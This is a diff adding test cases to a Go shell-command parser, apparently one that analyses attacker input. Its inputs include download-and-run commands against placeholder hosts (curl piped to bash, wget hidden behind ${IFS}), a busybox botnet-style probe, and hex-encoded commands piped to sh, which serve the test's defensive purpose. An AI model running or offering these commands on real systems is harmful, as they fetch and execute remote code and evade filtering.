@@ -81,6 +81,10 @@ func TestParse(t *testing.T) {
 		{`scp -t /tmp/`, `scp["-t" "/tmp/"]`},
 		{`bash <(curl -s http://x)`, `bash["<(curl -s http://x)"]; curl["-s" "http://x"] ^0/1`},
 		{`a) b (`, `a; b`},
+		{`cd${IFS}/tmp;wget${IFS}http://x/y`, `cd["/tmp"]; wget["http://x/y"]`},
+		{`/bin/busybox${IFS}ECCHI`, `busybox:ECCHI`},
+		{`echo -e '\x69\x64' | sh`, `echo["-e" "\\x69\\x64"]; |0 sh; id ^1/3`},
+		{`printf 'uname -a' | bash`, `printf["uname -a"]; |0 bash; uname["-a"] ^1/3`},
 		{``, ``},
 		{`;;;`, ``},
 	}
